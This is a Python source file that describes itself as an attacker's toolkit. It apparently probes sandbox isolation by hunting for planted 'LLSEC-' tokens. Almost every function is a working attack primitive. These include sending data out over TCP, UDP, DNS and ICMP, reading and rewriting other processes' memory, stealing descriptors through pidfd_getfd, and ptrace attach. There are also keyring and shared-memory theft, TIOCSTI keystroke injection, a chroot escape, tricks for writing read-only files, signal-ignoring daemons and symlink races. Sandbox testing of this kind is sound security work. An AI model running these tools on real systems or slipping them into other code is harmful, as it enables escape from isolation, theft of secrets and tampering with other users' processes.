"""The attacker's tools where a shell is not enough; only the standard library, so it runs inside any sandbox."""

# Each function is one sub-command: kit.py NAME ARGUMENT...

import ctypes
import glob
import mmap
import os
import re
import resource
import signal
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
TOKEN = re.compile(rb"LLSEC-\w+-[0-9a-f]{16}")
NR = {"ptrace": 101, "keyctl": 250, "add_key": 248, "pidfd_open": 434, "pidfd_getfd": 438, "pidfd_send_signal": 424,
      "process_vm_readv": 310, "process_vm_writev": 311, "open_by_handle_at": 304, "name_to_handle_at": 303,
      "shmget": 29, "shmat": 30, "shmctl": 31, "msgget": 68, "msgsnd": 69, "semget": 64, "semctl": 66,
      "mq_open": 240, "mq_timedsend": 242, "perf_event_open": 298, "bpf": 321, "userfaultfd": 323, "kcmp": 312,
      "process_madvise": 440, "setpriority": 141, "ioprio_set": 251, "migrate_pages": 256}  # fmt: skip


def call(name, *args):
    packed = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    got = libc.syscall(ctypes.c_long(NR[name]), *packed)
    if got < 0:
        error = ctypes.get_errno()
        raise OSError(error, f"{name}: {os.strerror(error)}")
    return got


def say(data):
    for token in sorted(set(TOKEN.findall(data))):
        print("found", token.decode(), flush=True)


def pids():
    return [int(n) for n in os.listdir("/proc") if n.isdigit() and int(n) != os.getpid()]


def each(work, *targets):
    for target in targets or pids():
        try:
            work(int(target))
        except (OSError, ValueError, OverflowError) as error:
            if targets:
                print("no:", error, file=sys.stderr)


# --- network


def tcp(host, port, text):
    with socket.create_connection((host, int(port)), 3) as s:
        s.sendall(text.encode())


def tcp6(host, port, text):
    tcp(host, port, text)


def udp(host, port, text):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text.encode(), (host, int(port)))


def dns(host, port, name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    packet = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 16, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, (host, int(port)))


def icmp(host, text):
    body = text.encode().ljust(32)
    packet = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + body
    total = sum(struct.unpack(f">{len(packet) // 2}H", packet))
    total = (total & 0xFFFF) + (total >> 16)
    packet = struct.pack(">BBHHH", 8, 0, ~total & 0xFFFF, 1, 1) + body
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(packet, (host, 0))
            return
        except OSError as error:
            print("no:", error, file=sys.stderr)


def unix(path, text, kind="stream"):
    kinds = {"stream": socket.SOCK_STREAM, "dgram": socket.SOCK_DGRAM, "seq": socket.SOCK_SEQPACKET}
    address = "\0" + path[1:] if path.startswith("^") else path
    s = socket.socket(socket.AF_UNIX, kinds[kind])
    s.connect(address)
    s.sendall(text.encode())
    time.sleep(0.2)


def unix_long(folder, name, text):
    """By a descriptor of the folder: a path of another shape than the one a filter knows."""
    descriptor = os.open(folder, os.O_PATH)
    unix(f"/proc/self/fd/{descriptor}/{name}", text)


def unix_unbound_dgram(path, text):
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(text.encode(), path)


def mptcp(host, port, text):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.connect((host, int(port)))
        s.sendall(text.encode())


def fastopen(host, port, text):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.sendto(text.encode(), 0x20000000, (host, int(port)))


def reconnect(host, port, text):
    """Through AF_UNSPEC and back: some filters judge the first connect only."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("127.0.0.1", 9))
        s.connect((host, int(port)))
        s.send(text.encode())


def vsock(cid, port, text):
    with socket.socket(40, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((int(cid), int(port)))
        s.sendall(text.encode())


def netlink(portid, text):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 2)
    s.bind((0, 0))
    body = text.encode()
    s.sendto(struct.pack("IHHII", 16 + len(body), 16, 0, 1, 0) + body, (int(portid), 0))


def sock_diag():
    """All Unix sockets of the machine by netlink, with their names."""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)
    s.settimeout(2)
    request = struct.pack("BBHIIIII", socket.AF_UNIX, 0, 0, 0xFFFFFFFF, 0, 1, 0, 0)
    s.send(struct.pack("IHHII", 16 + len(request), 20, 0x301, 1, 0) + request)
    for _ in range(50):
        data = s.recv(65536)
        say(data)
        if struct.unpack_from("IH", data)[1] == 3:
            return


def listen(note, text, seconds, bind=""):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if bind:
        s.bind((bind, 0))
    s.listen(5)
    with open(note + ".new", "w") as file:
        file.write(str(s.getsockname()[1]))
    os.rename(note + ".new", note)
    s.settimeout(float(seconds))
    try:
        while True:
            peer, _ = s.accept()
            peer.sendall(text.encode())
            peer.close()
    except TimeoutError:
        pass


def listen_abstract(name, text, seconds):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\0" + name)
    s.listen(5)
    s.settimeout(float(seconds))
    try:
        while True:
            peer, _ = s.accept()
            peer.sendall(text.encode())
            peer.close()
    except TimeoutError:
        pass


def receive_fd(path):
    """Ask a listening socket for a descriptor (SCM_RIGHTS) and read through it."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    _, fds, _, _ = socket.recv_fds(s, 16, 4)
    for fd in fds:
        say(os.pread(fd, 4096, 0))


# --- other processes


def proc_file(which, *targets):
    def work(pid):
        with open(f"/proc/{pid}/{which}", "rb") as file:
            say(file.read(1 << 20))

    each(work, *targets)


def regions(pid):
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            span, rights, *_ = line.split()
            low, high = (int(x, 16) for x in span.split("-"))
            if rights.startswith("rw") and high - low <= 64 << 20 and ".so" not in line:
                yield low, high


def memory(*targets):
    def work(pid):
        with open(f"/proc/{pid}/mem", "rb", 0) as file:
            for low, high in regions(pid):
                try:
                    say(os.pread(file.fileno(), high - low, low))
                except OSError:
                    continue

    each(work, *targets)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def vm_read(*targets):
    def work(pid):
        for low, high in regions(pid):
            buffer = ctypes.create_string_buffer(high - low)
            here, there = Iovec(ctypes.addressof(buffer), high - low), Iovec(low, high - low)
            call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            say(buffer.raw)

    each(work, *targets)


def ptrace(pid, seconds="1"):
    call("ptrace", 16, int(pid), 0, 0)  # PTRACE_ATTACH
    time.sleep(float(seconds))
    call("ptrace", 17, int(pid), 0, 0)


def seize(pid, seconds="1"):
    call("ptrace", 0x4206, int(pid), 0, 0)
    time.sleep(float(seconds))


def steal_fd(*targets):
    def work(pid):
        handle = call("pidfd_open", pid, 0)
        for number in range(24):
            try:
                say(os.pread(call("pidfd_getfd", handle, number, 0), 4096, 0))
            except OSError:
                continue

    each(work, *targets)


def open_fds(*targets):
    def work(pid):
        for path in glob.glob(f"/proc/{pid}/fd/*"):
            try:
                if os.path.isfile(path):
                    with open(path, "rb") as file:
                        say(file.read(4096))
            except OSError:
                continue

    each(work, *targets)


def through_root(relative, *targets):
    """The file `relative` (absolute path) through every other process's root."""

    def work(pid):
        with open(f"/proc/{pid}/root{relative}", "rb") as file:
            say(file.read(4096))

    each(work, *targets)


def write_through_root(path, text, *targets):
    def work(pid):
        with open(f"/proc/{pid}/root{path}", "a") as file:
            file.write(text)

    each(work, *targets)


def kill(number, *targets):
    each(lambda pid: os.kill(pid, int(number)), *targets)


def thread_kill(number, pid):
    libc.syscall(200, ctypes.c_long(int(pid)), ctypes.c_long(int(number)))  # tkill


def queue_signal(number, pid):
    libc.sigqueue(int(pid), int(number), None)


def pidfd_kill(number, pid):
    call("pidfd_send_signal", call("pidfd_open", int(pid), 0), int(number), 0, 0)


def owner_signal(pid):
    """SIGIO / SIGURG to another process by F_SETOWN on a pipe of one's own."""
    import fcntl

    r, w = socket.socketpair()
    fcntl.fcntl(r, fcntl.F_SETOWN, int(pid))
    fcntl.fcntl(r, 10, int(signal.SIGUSR1))  # F_SETSIG
    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
    w.send(b"x")
    time.sleep(0.3)


def limits(pid):
    resource.prlimit(int(pid), resource.RLIMIT_CORE, (0, 0))
    resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (77, 77))


def renice(pid):
    call("setpriority", 0, int(pid), 7)


def affinity(pid):
    os.sched_setaffinity(int(pid), {0})


def oom(pid):
    with open(f"/proc/{pid}/oom_score_adj", "w") as file:
        file.write("777")


def write_memory(pid, token, replacement):
    """Put other bytes where `token` lies in the memory of `pid`."""
    with open(f"/proc/{pid}/mem", "rb+", 0) as file:
        for low, high in regions(pid):
            data = os.pread(file.fileno(), high - low, low)
            if (at := data.find(token.encode())) >= 0:
                os.pwrite(file.fileno(), replacement.encode(), low + at)


# --- kernel objects


def keyring_read(name):
    for special in (-3, -4, -5):  # session, user, user-session
        try:
            key = call("keyctl", 10, special, b"user", name.encode(), 0)
            buffer = ctypes.create_string_buffer(200)
            call("keyctl", 11, key, buffer, 200)
            say(buffer.raw)
        except OSError as error:
            print("no:", error, file=sys.stderr)


def keyring_add(name):
    call("add_key", b"user", name.encode(), b"planted", 7, -4)


def shm_read(key):
    at = libc.shmat
    at.restype = ctypes.c_void_p
    got = at(call("shmget", int(key), 0, 0), None, 0o10000)
    say(ctypes.string_at(got, 64))


def shm_write(key):
    at = libc.shmat
    at.restype = ctypes.c_void_p
    got = at(call("shmget", int(key), 0, 0), None, 0)
    ctypes.memmove(got, b"defaced!", 8)


def shm_remove(key):
    call("shmctl", call("shmget", int(key), 0, 0), 0, 0)


def shm_make(key):
    call("shmget", int(key), 1 << 20, 0o1600)


def queue_send(key, text):
    message = struct.pack("l", 1) + text.encode()
    call("msgsnd", call("msgget", int(key), 0), message, len(text), 0)


def posix_queue(name, text):
    handle = call("mq_open", name.encode(), os.O_WRONLY, 0, 0)
    call("mq_timedsend", handle, text.encode(), len(text), 0, 0)


def handle_hex(mount, text):
    """open_by_handle_at with a handle learnt elsewhere."""
    fd = os.open(mount, os.O_RDONLY)
    raw = bytes.fromhex(text)
    got = call("open_by_handle_at", fd, ctypes.create_string_buffer(raw, len(raw)), 0)
    say(os.pread(got, 4096, 0))


def tiocsti(path, text):
    import fcntl
    import termios

    fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    os.setsid() if os.getpid() != os.getsid(0) else None
    fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
    for char in text.encode():
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))


def perf(pid):
    attributes = struct.pack("IIQQ", 1, 112, 0, 1000).ljust(112, b"\0")
    call("perf_event_open", attributes, int(pid), -1 if int(pid) >= 0 else 0, -1, 0)
    print("PERF-" + "OPEN")


def bpf():
    attributes = struct.pack("IIIII", 2, 4, 8, 1, 0).ljust(72, b"\0")
    call("bpf", 0, attributes, 72)
    print("BPF-" + "MAP")


def userfaultfd():
    call("userfaultfd", 0)
    print("UFFD-" + "OPEN")


def kcmp(one, two):
    call("kcmp", int(one), int(two), 1, 0, 0)
    print("KCMP-" + "DONE")


# --- paths


def memfd_exec(script):
    fd = os.memfd_create("x", 0)
    os.write(fd, b"#!/bin/sh\n" + script.encode() + b"\n")
    os.execve(f"/proc/self/fd/{fd}", ["x"], os.environ)


def deep_path(folder, up_to, text):
    """Go down further than any path may be long, then up by '..', then write `up_to`."""
    os.chdir(folder)
    for _ in range(40):
        os.makedirs("d" * 200, exist_ok=True)
        os.chdir("d" * 200)
    for _ in range(40):
        os.chdir("..")
    relative = os.path.relpath(up_to, folder)
    with open(relative, "a") as file:
        file.write(text)


def dirfd_write(folder, names, text):
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(12):
        fd = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    with os.fdopen(os.open(names.lstrip("/"), os.O_WRONLY | os.O_APPEND, dir_fd=fd), "w") as file:
        file.write(text)


def path_fd_reopen(path, text):
    fd = os.open(path, os.O_PATH)
    with open(f"/proc/self/fd/{fd}", "a") as file:
        file.write(text)


def readonly_fd_reopen(path, text):
    fd = os.open(path, os.O_RDONLY)
    with open(f"/dev/fd/{fd}", "a") as file:
        file.write(text)


def truncate_readonly(path):
    os.truncate(path, 0)


def map_write(path):
    with open(path, "r+b") as file, mmap.mmap(file.fileno(), 0) as m:
        m[0:4] = b"XXXX"


def escape_chroot(path, text):
    """The old way out: chroot below, keep a descriptor above, climb."""
    os.makedirs("jail", exist_ok=True)
    above = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(above)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    with open(path, "a") as file:
        file.write(text)


# --- weight


def forks(count, seconds, mark):
    for _ in range(int(count)):
        if os.fork() == 0:
            time.sleep(float(seconds))
            os._exit(0)
    time.sleep(float(seconds))


def threads(count, seconds, mark):
    import threading

    for _ in range(int(count)):
        threading.Thread(target=time.sleep, args=(float(seconds),), daemon=True).start()
    time.sleep(float(seconds))


def eat(megabytes, seconds, mark):
    block = bytearray(int(megabytes) << 20)
    for at in range(0, len(block), 4096):
        block[at] = 1
    time.sleep(float(seconds))


def detach(seconds, mark, beat=""):
    """Fork twice, new sessions, all signals ignored, then live on."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, 32):
        if number not in (9, 19, 17):
            signal.signal(number, signal.SIG_IGN)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        if beat:
            with open(beat, "a") as file:
                file.write(".")
        time.sleep(0.1)


def hop(seconds, mark, beat):
    """Never the same pid for long: each child forks the next and ends."""
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        os.setsid()
        with open(beat, "a") as file:
            file.write(".")
        time.sleep(0.05)


def flip(link, one, two, seconds):
    """Let `link` point to `one` and `two` in turn, atomically, as fast as it goes."""
    end = time.monotonic() + float(seconds)
    number = 0
    while time.monotonic() < end:
        number += 1
        os.symlink((one, two)[number % 2], f"{link}.{number % 7}")
        os.rename(f"{link}.{number % 7}", link)


def exchange(one, two, seconds):
    """renameat2(RENAME_EXCHANGE) over and over."""
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        libc.syscall(316, -100, one.encode(), -100, two.encode(), 2)


def hammer(path, text, seconds):
    """Write to `path` over and over."""
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            continue


def main():
    name, *arguments = sys.argv[1:]
    globals()[name](*arguments)


if __name__ == "__main__":
    main()
